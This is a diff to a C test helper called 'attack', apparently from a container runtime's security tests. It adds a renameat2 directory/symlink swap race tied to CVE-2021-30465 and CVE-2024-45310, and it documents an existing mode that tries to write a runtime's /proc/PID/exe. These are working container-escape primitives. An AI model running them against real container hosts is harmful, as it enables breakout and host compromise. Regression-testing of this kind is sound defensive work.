@@ -5,7 +5,11 @@
  *                         container's PID namespace that runs another binary than ours (a
  *                         runtime entering the container), hold its /proc/PID/exe open, and try
  *                         to write it (directly, and through /proc/self/fd/N after it exits).
- *                         Prints "caught N" and one "WROTE ..." line per successful write. */
+ *                         Prints "caught N" and one "WROTE ..." line per successful write.
+ *   attack swap SECS A B  CVE-2021-30465/CVE-2024-45310: exchange A and B (a directory and a
+ *                         symlink) with renameat2(RENAME_EXCHANGE) as fast as possible for SECS
+ *                         seconds; prints "swapped N". */
+#define _GNU_SOURCE
 #include <dirent.h>
 #include <errno.h>
 #include <fcntl.h>
@@ -103,9 +107,22 @@ static int exewatch(int secs) {
     return 0;
 }
 
+static int swap(int secs, const char *a, const char *b) {
+    long n = 0;
+    time_t end = time(NULL) + secs;
+    printf("swapping\n");
+    fflush(stdout);
+    while (time(NULL) < end)
+        for (int i = 0; i < 10000; i++)
+            if (renameat2(AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE) == 0) n++;
+    printf("swapped %ld\n", n);
+    return 0;
+}
+
 int main(int argc, char **argv) {
+    if (argc >= 5 && !strcmp(argv[1], "swap")) return swap(atoi(argv[2]), argv[3], argv[4]);
     if (argc >= 2 && !strcmp(argv[1], "fds")) return fds();
     if (argc >= 3 && !strcmp(argv[1], "exewatch")) return exewatch(atoi(argv[2]));
-    fprintf(stderr, "usage: attack fds | exewatch SECS\n");
+    fprintf(stderr, "usage: attack fds | exewatch SECS | swap SECS A B\n");
     return 2;
 }
